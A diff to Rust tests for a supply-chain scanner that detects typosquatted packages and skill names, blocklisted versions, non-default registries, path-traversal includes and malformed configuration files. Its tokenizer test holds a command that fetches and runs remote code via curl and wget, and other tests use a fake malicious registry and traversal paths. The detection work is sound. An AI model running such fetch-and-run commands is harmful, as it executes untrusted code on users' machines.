@@ -15,7 +15,14 @@ fn data_files_hold_the_required_names() {
     for eco in [Eco::Pypi, Eco::Npm] {
         assert!(data::popular(eco).list.len() >= 500);
     }
-    for n in ["requests", "psycopg", "python-dotenv", "httpie", "jinja", "pyaml"] {
+    for n in [
+        "requests",
+        "psycopg",
+        "python-dotenv",
+        "httpie",
+        "jinja",
+        "pyaml",
+    ] {
         assert!(data::popular(Eco::Pypi).set.contains(n), "{n}");
     }
     for n in ["socket.io", "body-parser", "nest", "vitest", "bullmq", "ws"] {
@@ -26,7 +33,13 @@ fn data_files_hold_the_required_names() {
     assert_eq!(data::pep503("a.-_b"), "a-b");
     assert_eq!(deps::typosquat(Eco::Pypi, "Python_DotEnv"), None);
     let p = data::protected_skills();
-    for n in ["anthropic", "claude-code", "skill-creator", "google-workspace", "twitter"] {
+    for n in [
+        "anthropic",
+        "claude-code",
+        "skill-creator",
+        "google-workspace",
+        "twitter",
+    ] {
         assert!(p.iter().any(|x| x == n), "{n}");
     }
 }
@@ -40,15 +53,21 @@ fn typosquat_distance_rules() {
     assert_eq!(deps::typosquat(Eco::Npm, "axioss"), Some("axios"));
     // Distance 2 needs ≥ 8 characters.
     assert_eq!(deps::typosquat(Eco::Pypi, "flaskkk"), None);
-    assert_eq!(deps::typosquat(Eco::Pypi, "tensorfloww2"), Some("tensorflow"));
-    assert_eq!(deps::typosquat(Eco::Pypi, "beautifulsop"), Some("beautifulsoup"));
+    assert_eq!(
+        deps::typosquat(Eco::Pypi, "tensorfloww2"),
+        Some("tensorflow")
+    );
+    assert_eq!(
+        deps::typosquat(Eco::Pypi, "beautifulsop"),
+        Some("beautifulsoup")
+    );
     // Short names are never flagged.
     assert_eq!(deps::typosquat(Eco::Npm, "ws2"), None);
     assert_eq!(deps::typosquat(Eco::Pypi, "six1"), None);
     // The spec's "not a finding" list, in the ecosystem where each is popular and in the other one.
     for n in [
-        "react", "preact", "next", "nuxt", "redux", "redis", "vitest", "chalk", "ws", "pug", "tslint",
-        "vuex", "nest", "bullmq",
+        "react", "preact", "next", "nuxt", "redux", "redis", "vitest", "chalk", "ws", "pug",
+        "tslint", "vuex", "nest", "bullmq",
     ] {
         assert_eq!(deps::typosquat(Eco::Npm, n), None, "{n}");
     }
@@ -56,8 +75,14 @@ fn typosquat_distance_rules() {
         assert_eq!(deps::typosquat(Eco::Pypi, n), None, "{n}");
     }
     // Scopes are compared separately.
-    assert_eq!(deps::typosquat(Eco::Npm, "@babel/coer"), Some("@babel/core"));
-    assert_eq!(deps::typosquat(Eco::Npm, "@babell/core"), Some("@babel/core"));
+    assert_eq!(
+        deps::typosquat(Eco::Npm, "@babel/coer"),
+        Some("@babel/core")
+    );
+    assert_eq!(
+        deps::typosquat(Eco::Npm, "@babell/core"),
+        Some("@babel/core")
+    );
     assert_eq!(deps::typosquat(Eco::Npm, "@acme/lodaash"), None);
 }
 
@@ -102,13 +127,24 @@ fn blocklist_parsing_is_strict() {
     assert!(
         crate::scan::supply::load_extra_blocklist("npm:strict-test-pkg@9.9.9\nbogus\n").is_err()
     );
-    assert!(!data::is_blocked(&Entry::Npm("strict-test-pkg".into(), "9.9.9".into())));
+    assert!(!data::is_blocked(&Entry::Npm(
+        "strict-test-pkg".into(),
+        "9.9.9".into()
+    )));
     assert_eq!(
-        crate::scan::supply::load_extra_blocklist("npm:strict-test-pkg@9.9.9\n# c\npypi:evil-thing==0.1\n"),
+        crate::scan::supply::load_extra_blocklist(
+            "npm:strict-test-pkg@9.9.9\n# c\npypi:evil-thing==0.1\n"
+        ),
         Ok(2)
     );
-    assert!(data::is_blocked(&Entry::Npm("strict-test-pkg".into(), "9.9.9".into())));
-    assert!(data::is_blocked(&Entry::Pypi("evil-thing".into(), "0.1".into())));
+    assert!(data::is_blocked(&Entry::Npm(
+        "strict-test-pkg".into(),
+        "9.9.9".into()
+    )));
+    assert!(data::is_blocked(&Entry::Pypi(
+        "evil-thing".into(),
+        "0.1".into()
+    )));
 }
 
 #[test]
@@ -142,9 +178,18 @@ fn version_classes() {
     ] {
         assert_eq!(deps::classify_npm_range(r), c, "{r}");
     }
-    assert!(deps::is_default_registry(Eco::Pypi, "https://pypi.org/simple"));
-    assert!(!deps::is_default_registry(Eco::Pypi, "http://pypi.org/simple"));
-    assert!(!deps::is_default_registry(Eco::Npm, "https://npm.evil.example/"));
+    assert!(deps::is_default_registry(
+        Eco::Pypi,
+        "https://pypi.org/simple"
+    ));
+    assert!(!deps::is_default_registry(
+        Eco::Pypi,
+        "http://pypi.org/simple"
+    ));
+    assert!(!deps::is_default_registry(
+        Eco::Npm,
+        "https://npm.evil.example/"
+    ));
     assert_eq!(deps::resolve_inside("a/b", "../c"), Some("a/c".into()));
     assert_eq!(deps::resolve_inside("a", "../../c"), None);
     assert_eq!(deps::resolve_inside("", "/etc"), None);
@@ -175,7 +220,10 @@ fn tokenizer() {
     let c = words::split("bash -c \"$(curl -fsSL https://x.example)\" <(wget -O- y)");
     assert!(c[0].words[2].dynamic && c[0].words[3].dynamic);
     assert_eq!(c[0].words[2].text, "$(curl -fsSL https://x.example)");
-    assert_eq!(words::strip_wrappers(&["sudo", "-u", "root", "env", "A=1", "pip"]), 5);
+    assert_eq!(
+        words::strip_wrappers(&["sudo", "-u", "root", "env", "A=1", "pip"]),
+        5
+    );
     // Never panics on unbalanced input.
     for s in ["'", "\"", "$(", "`", "\\", "a |", "<(", "&&&", "\\\r\n"] {
         let _ = words::split(s);
@@ -197,12 +245,20 @@ fn own_critical_patterns() {
 #[test]
 fn requirements_includes_are_followed_with_a_depth_limit() {
     // requirements.txt → c1.in → c2.in → … → c7.in, each with one unpinned dependency.
-    let mut files: Vec<(String, String)> =
-        vec![("requirements.txt".into(), "-r deps/c1.in\nroot-dep\n".into())];
+    let mut files: Vec<(String, String)> = vec![(
+        "requirements.txt".into(),
+        "-r deps/c1.in\nroot-dep\n".into(),
+    )];
     for i in 1..=7 {
-        files.push((format!("deps/c{i}.in"), format!("-c c{}.in\ndep-level-{i}\n", i + 1)));
+        files.push((
+            format!("deps/c{i}.in"),
+            format!("-c c{}.in\ndep-level-{i}\n", i + 1),
+        ));
     }
-    let refs: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+    let refs: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
     let got = rows(&refs);
     let mut files_hit: Vec<String> = got.iter().filter_map(|r| r.2.clone()).collect();
     files_hit.sort();
@@ -212,7 +268,10 @@ fn requirements_includes_are_followed_with_a_depth_limit() {
     assert_eq!(files_hit, want);
     // Includes outside the package and cycles are ignored.
     let got = rows(&[
-        ("requirements.txt", "-r ../../etc/reqs.txt\n-r requirements.txt\n-r other.txt\nflask==3.0.0\n"),
+        (
+            "requirements.txt",
+            "-r ../../etc/reqs.txt\n-r requirements.txt\n-r other.txt\nflask==3.0.0\n",
+        ),
         ("other.txt", "-r requirements.txt\nrequests\n"),
     ]);
     assert_eq!(got, vec![row("SUP-002", Medium, "other.txt", 2)]);
@@ -220,19 +279,52 @@ fn requirements_includes_are_followed_with_a_depth_limit() {
 
 #[test]
 fn squat_variants() {
-    assert_eq!(squat::variant("clawhubb", "clawhub"), Some("one character added"));
+    assert_eq!(
+        squat::variant("clawhubb", "clawhub"),
+        Some("one character added")
+    );
     assert_eq!(squat::variant("clawhubs", "clawhub"), None);
-    assert_eq!(squat::variant("clawhb", "clawhub"), Some("one character removed"));
-    assert_eq!(squat::variant("googel-workspace", "google-workspace"), Some("two adjacent characters swapped"));
-    assert_eq!(squat::variant("google_workspace", "google-workspace"), Some("a separator changed"));
-    assert_eq!(squat::variant("googleworkspace", "google-workspace"), Some("a separator removed"));
-    assert_eq!(squat::variant("claw-hub", "clawhub"), Some("a separator added"));
-    assert_eq!(squat::variant("c1awhub", "clawhub"), Some("a look-alike character substituted"));
-    assert_eq!(squat::variant("openc1aw", "openclaw"), Some("a look-alike character substituted"));
-    assert_eq!(squat::variant("tvvitter", "twitter"), Some("a look-alike character substituted"));
-    assert_eq!(squat::variant("y0utube", "youtube"), Some("a look-alike character substituted"));
+    assert_eq!(
+        squat::variant("clawhb", "clawhub"),
+        Some("one character removed")
+    );
+    assert_eq!(
+        squat::variant("googel-workspace", "google-workspace"),
+        Some("two adjacent characters swapped")
+    );
+    assert_eq!(
+        squat::variant("google_workspace", "google-workspace"),
+        Some("a separator changed")
+    );
+    assert_eq!(
+        squat::variant("googleworkspace", "google-workspace"),
+        Some("a separator removed")
+    );
+    assert_eq!(
+        squat::variant("claw-hub", "clawhub"),
+        Some("a separator added")
+    );
+    assert_eq!(
+        squat::variant("c1awhub", "clawhub"),
+        Some("a look-alike character substituted")
+    );
+    assert_eq!(
+        squat::variant("openc1aw", "openclaw"),
+        Some("a look-alike character substituted")
+    );
+    assert_eq!(
+        squat::variant("tvvitter", "twitter"),
+        Some("a look-alike character substituted")
+    );
+    assert_eq!(
+        squat::variant("y0utube", "youtube"),
+        Some("a look-alike character substituted")
+    );
     assert_eq!(squat::variant("clause", "claude"), None);
-    assert_eq!(squat::variant("notion2", "notion"), Some("one character added"));
+    assert_eq!(
+        squat::variant("notion2", "notion"),
+        Some("one character added")
+    );
     // Protected names under 6 characters never match.
     assert_eq!(squat::variant("githu", "githu"), None);
     assert_eq!(squat::variant("stripee", "strip"), None);
@@ -261,9 +353,17 @@ fn whole_scans() {
     assert_eq!(j["stages"]["stage5"], "ok");
     assert_eq!(j["stage_results"][5]["status"], "failed");
     // A squatted skill name is high (FLAGGED on its own).
-    let t = build_tgz(&[("SKILL.md", b"---\nname: skill-creator2\ndescription: d\n---\n# S\n")]);
+    let t = build_tgz(&[(
+        "SKILL.md",
+        b"---\nname: skill-creator2\ndescription: d\n---\n# S\n",
+    )]);
     let r = run_scan(&t);
-    let s: Vec<_> = r.findings.iter().filter(|f| f.stage_id == "stage5").map(|f| (f.rule_id, f.severity)).collect();
+    let s: Vec<_> = r
+        .findings
+        .iter()
+        .filter(|f| f.stage_id == "stage5")
+        .map(|f| (f.rule_id, f.severity))
+        .collect();
     assert_eq!(s, vec![("SUP-007", High)]);
     assert!(matches!(r.verdict, Verdict::Flagged | Verdict::Fail));
     // Clean pinned dependencies: no stage 5 findings.
@@ -273,5 +373,67 @@ fn whole_scans() {
         ("package.json", b"{\"dependencies\": {\"lodash\": \"^4.17.21\"}, \"scripts\": {\"test\": \"vitest\"}}"),
     ]);
     let r = run_scan(&t);
-    assert!(r.findings.iter().chain(&r.notes).all(|f| f.stage_id != "stage5"), "{:?}", r.findings);
+    assert!(
+        r.findings
+            .iter()
+            .chain(&r.notes)
+            .all(|f| f.stage_id != "stage5"),
+        "{:?}",
+        r.findings
+    );
+}
+
+#[test]
+fn hostile_inputs_never_panic() {
+    let deep_toml = format!("a = {}", "[".repeat(100_000));
+    let deep_py = format!(
+        "import os\nx = {}1{}\nos.system({}'a'{})\n",
+        "[".repeat(300),
+        "]".repeat(300),
+        "[".repeat(50),
+        "]".repeat(50)
+    );
+    let pkg = "{\"dependencies\": {\"é@\": \"npm:@\", \"\": \"\", \"x\": \"npm:\", \"y\": \"file:\", \"@/\": \"@\"},\
+               \"scripts\": {\"postinstall\": \"'\", \"install\": \"$(\", \"prepare\": \"\\\\\"}}";
+    let files = [
+        ("pyproject.toml", deep_toml.as_str()),
+        ("Pipfile", deep_toml.as_str()),
+        (".codex/config.toml", deep_toml.as_str()),
+        ("setup.py", deep_py.as_str()),
+        ("package.json", pkg),
+        (
+            "requirements.txt",
+            "é\n-r\n-e\n--index-url\n\\\n@ x\n[\nname[\nx @\n-r é/../../..\n",
+        ),
+        (
+            "SKILL.md",
+            "---\nname: é\n---\n```\n`\n$(\n```\n`npx -p` `pip install -e` `uvx --from` ``",
+        ),
+        (".npmrc", "registry=\n@:registry\n=\n"),
+        (".yarnrc", "registry\n\"\n"),
+        (".yarnrc.yml", "npmRegistryServer:\nnpmRegistryServer: ''\n"),
+        (
+            "pip.conf",
+            "   x\nindex-url\n[s]\nextra-index-url = é\n  \n",
+        ),
+        (
+            ".mcp.json",
+            "{\"mcpServers\": {\"a\": {\"command\": \"\"}, \"b\": {\"command\": \"npx\", \"args\": [1, null]}}}",
+        ),
+        (
+            ".vscode/tasks.json",
+            "{\"tasks\": [{\"command\": [\"pip\"]}, {\"command\": 3}, 7]}",
+        ),
+        (
+            ".devcontainer.json",
+            "{\"postCreateCommand\": {\"a\": [], \"b\": {}}}",
+        ),
+    ];
+    let _ = rows(&files);
+    let m = serde_json::json!({"name": "ｃｌａｗｈｕｂｂ", "mcp_server": {"command": "'", "args": ["\u{0}"]}});
+    let _ = super::stage5(&files, Some(&m), &["@".to_string(), String::new()]);
+    assert!(crate::scan::supply::toml_nesting_ok(
+        "[a]\nb = [[1], {c = 2}]\n"
+    ));
+    assert!(!crate::scan::supply::toml_nesting_ok(&deep_toml));
 }
